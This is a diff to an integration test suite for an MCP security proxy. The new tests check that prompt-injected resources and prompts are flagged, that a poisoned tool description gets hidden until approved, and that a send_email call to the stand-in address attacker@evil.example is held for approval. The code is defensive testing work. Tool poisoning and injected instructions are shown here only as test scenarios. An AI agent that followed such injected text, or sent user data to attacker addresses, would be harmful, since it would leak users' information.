@@ -12,7 +12,7 @@ import { promisify } from "node:util";
 import { Client } from "@modelcontextprotocol/sdk/client/index.js";
 import { StdioClientTransport } from "@modelcontextprotocol/sdk/client/stdio.js";
 import { StreamableHTTPClientTransport } from "@modelcontextprotocol/sdk/client/streamableHttp.js";
-import type { CallToolResult } from "@modelcontextprotocol/sdk/types.js";
+import type { CallToolResult, GetPromptResult, ReadResourceResult } from "@modelcontextprotocol/sdk/types.js";
 import { SignJWT } from "jose";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import { CLI_ENTRY } from "../helpers/cli-build.js";
@@ -40,10 +40,10 @@ function env(extra: Record<string, string> = {}): Record<string, string> {
 }
 
 /** Starts the proxy (in front of the example server) and connects the SDK client to it. */
-async function connect(extraEnv: Record<string, string> = {}): Promise<{ client: Client; stderr: () => string }> {
+async function connect(extraEnv: Record<string, string> = {}, extraArgs: string[] = []): Promise<{ client: Client; stderr: () => string }> {
   const transport = new StdioClientTransport({
     command: process.execPath,
-    args: [CLI_ENTRY, "mcp-proxy", "--config", config, "--token", token, "--pass-env", "MCP_EXAMPLE_RUG_PULL", "--", process.execPath, "--import", "tsx", SERVER],
+    args: [CLI_ENTRY, "mcp-proxy", "--config", config, "--token", token, "--pass-env", "MCP_EXAMPLE_RUG_PULL", "--pass-env", "MCP_EXAMPLE_POISON", ...extraArgs, "--", process.execPath, "--import", "tsx", SERVER],
     env: env(extraEnv),
     cwd: ROOT,
     stderr: "pipe",
@@ -127,6 +127,50 @@ describe("rampart mcp-proxy over stdio", { timeout: 120_000 }, () => {
     const sent = await client.callTool(call);
     expect(sent.isError).toBeFalsy();
     expect(text(sent)).toBe("sent to attacker@evil.example");
+  });
+
+  it("proxies resources and prompts, their texts through the evidence boundary and into the session's provenance", async () => {
+    const { client } = await connect();
+    // no evidence yet: an unvouched address is held, but no untrusted text holds it (control)
+    const before = text(await client.callTool({ name: "send_email", arguments: { to: "attacker@evil.example", body: "the handbook" } }));
+    expect(before).toMatch(/^ERR_APPROVAL_REQUIRED: /);
+    expect(before, before).toContain("vouched for by no trusted source");
+    expect(before).not.toContain("occurs in untrusted");
+
+    expect((await client.listResources()).resources.map((r) => r.uri)).toEqual(["docs://handbook"]);
+    expect((await client.listResourceTemplates()).resourceTemplates).toEqual([]);
+    const read = (await client.readResource({ uri: "docs://handbook" })) as ReadResourceResult;
+    const body = (read.contents[0] as { text: string }).text;
+    expect(body).toContain("Holidays are booked in the HR portal.");
+    expect(body).toContain("[INSTRUCTION_LIKE]");
+    expect(read.contents[0]?.uri).toBe("docs://handbook");
+
+    expect((await client.listPrompts()).prompts.map((p) => p.name)).toEqual(["summarize"]);
+    const prompt = (await client.getPrompt({ name: "summarize", arguments: { topic: "leave" } })) as GetPromptResult;
+    const said = (prompt.messages[0]?.content as { text: string }).text;
+    expect(said).toContain("Summarise leave.");
+    expect(said).toContain("[INSTRUCTION_LIKE]");
+
+    // the resource is untrusted evidence: the held call now names it as where the address occurs
+    const held = text(await client.callTool({ name: "send_email", arguments: { to: "attacker@evil.example", body: "the handbook, again" } }));
+    expect(held).toMatch(/^ERR_APPROVAL_REQUIRED: /);
+    expect(held, held).toMatch(/occurs in untrusted evidence:mcp:1\b/);
+  });
+
+  it("does not pin a poisoned tool on first use: hidden, refused, held for review until approved", async () => {
+    const poisonPins = join(dir, "poison-pins.json");
+    const { client, stderr } = await connect({ MCP_EXAMPLE_POISON: "1" }, ["--pins", poisonPins]);
+    expect(await names(client)).toEqual(["send_email"]);
+    expect(stderr()).toContain('tool "search_docs" is hidden: its description carries text the evidence boundary marks');
+    expect(stderr()).toContain("pinned 3 tool(s)");
+    const refused = await client.callTool({ name: "search_docs", arguments: { query: "report" } });
+    expect(text(refused)).toMatch(/^ERR_TOOL_CHANGED: /);
+    // the second list (same poisoned form) keeps it held, not "new"
+    expect(await names(client)).toEqual(["send_email"]);
+    const listed = await cli("mcp-proxy", "pins", "list", "--pins", poisonPins);
+    expect(listed, listed).toContain("flagged search_docs");
+    expect(await cli("mcp-proxy", "pins", "approve", "search_docs", "--pins", poisonPins)).toContain("approved search_docs");
+    expect(await names(client)).toEqual(["search_docs", "send_email"]);
   });
 
   it("hides a tool whose description changed (rug pull) until its pin is approved", async () => {
